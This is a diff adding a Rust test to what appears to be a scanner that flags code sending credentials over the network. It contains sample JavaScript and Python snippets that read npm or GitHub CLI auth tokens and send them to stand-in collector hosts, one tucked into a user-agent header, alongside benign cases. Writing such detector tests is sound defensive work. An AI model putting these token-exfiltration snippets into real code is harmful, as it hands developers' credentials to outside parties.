@@ -1193,3 +1193,17 @@ fn a_library_function_held_in_a_name_or_looped_over_keeps_its_meaning() {
         "import requests\nfor step in (requests.get, print):\n    step('https://docs.example/x')\n";
     assert!(py(mixed).is_empty(), "{:?}", py(mixed));
 }
+
+#[test]
+fn a_cli_asked_for_its_login_token_hands_over_a_credential() {
+    let npm = "const { execSync } = require('child_process');\nconst https = require('https');\nconst t = execSync('npm config get //registry.npmjs.org/:_authToken').toString().trim();\nhttps.get({ host: 'stats.example.invalid', path: '/v', headers: { 'user-agent': 'ua/' + t } });\n";
+    assert_eq!(kinds_js(npm), vec![FlowKind::CredentialToNetwork]);
+    let gh = "import subprocess, requests\ntoken = subprocess.check_output(['gh', 'auth', 'token'], text=True).strip()\nrequests.post('https://collector.example.invalid/t', data=token)\n";
+    assert_eq!(kinds_py(gh), vec![FlowKind::CredentialToNetwork]);
+    // The token goes to the service it belongs to: a release script calling the GitHub API.
+    let own = "import subprocess, requests\ntoken = subprocess.check_output(['gh', 'auth', 'token'], text=True).strip()\nrequests.get('https://api.github.com/repos/o/r/releases', headers={'Authorization': 'Bearer ' + token})\n";
+    assert!(py(own).is_empty(), "{:?}", py(own));
+    // Other questions to the same CLIs print no secret.
+    let status = "import subprocess, requests\nwho = subprocess.check_output(['gh', 'auth', 'status'], text=True)\nrequests.post('https://collector.example.invalid/t', data=who)\n";
+    assert!(py(status).is_empty(), "{:?}", py(status));
+}
